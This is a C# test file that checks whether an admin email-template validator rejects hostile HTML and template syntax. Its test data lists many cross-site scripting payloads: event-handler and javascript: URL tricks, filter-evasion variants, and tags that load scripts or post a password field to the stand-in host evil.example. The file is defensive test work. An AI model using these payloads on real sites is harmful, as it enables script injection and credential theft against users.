using System.Net;
using Anteroom.Mail;
using Anteroom.Tests.App;

namespace Anteroom.Tests.Attacks;

/// <summary>Who may write templates, or has the session of somebody who may, and wants more to come out than an email.</summary>
public sealed class TemplateAttackTests(TestDatabases databases)
{
    private const string Address = "/admin/templates/confirmation";
    private static readonly MailKindFacts Confirmation = EmailKind.Confirmation.Facts();

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=https://evil.example/x.js></ScRiPt>")]
    [InlineData("<scr{{#if phone}}ipt{{/if}}>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=http://evil.example/pixel>")]
    [InlineData("<img src=//evil.example/pixel>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,x\">x</a>")]
    [InlineData("<a href=\"vbscript:x\">x</a>")]
    [InlineData("<svg onload=alert(1)></svg>")]
    [InlineData("<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>")]
    [InlineData("<iframe src=https://evil.example></iframe>")]
    [InlineData("<object data=https://evil.example></object>")]
    [InlineData("<embed src=https://evil.example>")]
    [InlineData("<form action=https://evil.example><input name=password></form>")]
    [InlineData("<button formaction=https://evil.example>x</button>")]
    [InlineData("<base href=https://evil.example>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>")]
    [InlineData("<style>@import 'https://evil.example/x.css';</style>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<!--[if mso]><script>alert(1)</script><![endif]-->")]
    [InlineData("<!-- a remark -->")]
    [InlineData("<p>{{this}}</p>")]
    [InlineData("{{#with this}}{{this}}{{/with}}")]
    [InlineData("{{!-- }} {{{message}}} --}}")]
    [InlineData("{{!--}}{{{message}}}{{!--}}")]
    [InlineData("{{! -- }}{{message}}")]
    [InlineData("{{{message}}}")]
    [InlineData("{{&message}}")]
    [InlineData("{{~{message}~}}")]
    public void What_is_no_email_is_refused(string html) =>
        Assert.NotEmpty(TemplateCheck.Check(new TemplateSource("subject", "text", html), Confirmation));

    [Theory]
    [InlineData("<p style=\"margin:0 0 16px;color:#1c2226\">Dear {{first_name}},<br>thank you.</p>")]
    [InlineData(
        "<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" bgcolor=\"#ffffff\"><tr><td align=\"center\" valign=\"top\">x</td></tr></table>"
    )]
    [InlineData("<a href=\"https://firm.example/?q=1&amp;r=2\" target=\"_blank\">our site</a>")]
    [InlineData("<a href=\"mailto:office@firm.example\">write</a> <a href=\"tel:+15551234567\">call</a>")]
    [InlineData("<img src=\"https://firm.example/logo.png\" alt=\"Byron\" width=\"120\">")]
    [InlineData("<style>@media print { p { color: red } }</style><p class=\"x\">x</p>")]
    [InlineData("{{#if phone}}<p>{{phone}}</p>{{else}}<p>no phone</p>{{/if}}{{! a remark }}")]
    public void What_mail_needs_is_taken(string html) =>
        Assert.Empty(TemplateCheck.Check(new TemplateSource("subject", "text", html), Confirmation));

    [Fact]
    public void What_only_some_values_put_together_is_taken_out_of_the_email_itself()
    {
        // With all examples, and without all that can be missing, it is harmless.
        const string Tricky =
            "<p>Hello</p>{{#if phone}}{{#unless practice_area}}<script>alert(1)</script>{{/unless}}{{/if}}<a href=\"{{message}}\">x</a>";
        var compiled = new CompiledTemplate(new TemplateSource("s", "t", Tricky), Language.En, isTheFirms: true);
        var values = new Dictionary<string, object?>(Confirmation.Examples(), StringComparer.Ordinal)
        {
            ["phone"] = "1",
            ["practice_area"] = null,
            ["message"] = "javascript:alert(1)",
        };
        var html = compiled.Render(values).Html!;

        Assert.Contains("<p>Hello</p>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task The_editor_refuses_with_the_line()
    {
        await using var app = await AnteroomApp.StartAsync(databases, role: "web");
        using var office = await app.SignedInAsync(Role.Administrator, "office");
        var page = await office.OpenAsync(Address);

        using var refused = await office.SendFormAsync(
            page.Form(Address),
            ("subject", "Hello"),
            ("text", "Hello"),
            ("html", "<p>Hello</p>\n<img src=x onerror=alert(1)>")
        );

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        Assert.StartsWith("Line 2: ", await refused.ErrorAsync("html"), StringComparison.Ordinal);
        Assert.Equal(0, await app.CountAsync("mail_templates"));
    }
}
